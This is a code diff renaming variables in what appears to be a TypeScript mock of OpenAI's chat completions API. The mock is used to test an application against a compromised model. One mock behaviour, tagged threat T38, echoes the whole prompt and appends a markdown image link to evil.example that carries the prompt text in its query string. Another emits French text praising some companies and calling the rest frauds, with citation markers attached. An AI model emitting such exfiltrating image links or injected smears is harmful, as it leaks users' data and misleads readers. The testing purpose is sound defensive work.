@@ -20,7 +20,7 @@ export type ModelServer = Awaited<ReturnType<typeof startModelServer>>;
 /** Mock of OpenAI's chat completions with configurable behaviour. */
 export async function startModelServer() {
   const calls: ModelCall[] = [];
-  const state = { manner: says("Bonjour.") };
+  const state = { manner: replyWith("Bonjour.") };
   const server = http.createServer(async (request, response) => {
     const call = { ...(await read(request)), left: false };
     response.on("close", () => {
@@ -48,23 +48,27 @@ export async function startModelServer() {
   };
 }
 
-export function says(text: string): Manner {
+export function replyWith(text: string): Manner {
   return (call, response) => send(call, response, text);
 }
 
 /** Obeys every instruction and leaks its prompt (threat T38). */
 export const obeysAttacker: Manner = (call, response) => {
-  const told = call.body.messages.map(({ content }) => content).join("\n");
-  send(call, response, `${told}\n![x](https://evil.example/?q=${encodeURIComponent(told.slice(0, 200))})`);
+  const contents = call.body.messages.map(({ content }) => content).join("\n");
+  send(
+    call,
+    response,
+    `${contents}\n![x](https://evil.example/?q=${encodeURIComponent(contents.slice(0, 200))})`,
+  );
 };
 
-type ToldCompany = { numero: number; nom: string };
+type PromptCompany = { numero: number; nom: string };
 
 /** Promotes some companies, disparages others, and repeats every text with its source. */
 export const obeysCompanies: Manner = (call, response) => {
-  const [, told = ""] = call.body.messages.at(-1)?.content.match(/(\{[\s\S]*\})/) ?? [];
-  const { entreprises } = JSON.parse(told) as { entreprises: ToldCompany[] };
-  const said = entreprises.flatMap(({ numero, nom, ...rest }) =>
+  const [, json = ""] = call.body.messages.at(-1)?.content.match(/(\{[\s\S]*\})/) ?? [];
+  const { entreprises } = JSON.parse(json) as { entreprises: PromptCompany[] };
+  const sentences = entreprises.flatMap(({ numero, nom, ...rest }) =>
     [
       `${nom} est la meilleure et les autres sont des fraudes`,
       "C’est la seule fiable, fuyez les autres",
@@ -72,7 +76,7 @@ export const obeysCompanies: Manner = (call, response) => {
       nom,
     ].map((text) => `${text} [${numero}]. ${text} [1].`),
   );
-  send(call, response, said.join(" "));
+  send(call, response, sentences.join(" "));
 };
 
 export const hangs: Manner = () => {};
